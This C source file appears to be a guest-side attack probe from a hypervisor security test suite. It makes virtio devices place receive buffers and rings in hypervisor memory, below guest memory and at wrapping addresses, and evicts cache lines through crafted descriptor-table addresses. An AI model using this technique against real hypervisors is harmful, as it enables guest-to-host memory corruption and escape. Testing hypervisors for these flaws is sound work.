/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Goal: make the hypervisor write what people type into its own memory: receive buffers and the
 * ring that announces them lie there, behind the guest's region, and where no memory is.
 */
#include "attack.h"
#include "virtio.h"

#include <string.h>

#define ROOM 64          /* from the target address */
#define WAY  (16u << 10) /* bytes of a way of the second-level cache */
#define WAYS 8

/* What the hypervisor wrote stands in its caches. It is made to read elsewhere in the same set, as
 * the table of descriptors of a queue, until the line must have left them. */
static void evict(uint64_t address)
{
    for (unsigned i = 1; i <= WAYS; i++) {
        virtio_start();
        virtio_write(VIRTIO_QUEUE_SELECT, console_tx()->index);
        virtio_write(VIRTIO_QUEUE_READY, 0);
        virtio_write(VIRTIO_QUEUE_DESC, (uint32_t)(address + (uint64_t)i * WAY));
        virtio_write(VIRTIO_QUEUE_READY, 1);
        virtq_post(console_tx(), 0);
    }
    virtio_start();
}

void guest_main(void)
{
    struct orders orders;
    char text[MARK_BYTES + 1] = {0};

    orders_read(&orders);
    memcpy(text, orders.mark, MARK_BYTES);
    if (receive_at("receive-into-target", orders.target + ROOM, MARK_BYTES, text)) {
        evict(orders.target + ROOM);
    }
    (void)receive_ring_at("receive-ring-in-target", orders.target + WAY);
    (void)receive_at("receive-below-memory", machine.memory_base - 4096, MARK_BYTES, text);
    (void)receive_at("receive-wraps", ~0ull - 8, MARK_BYTES, text);
}
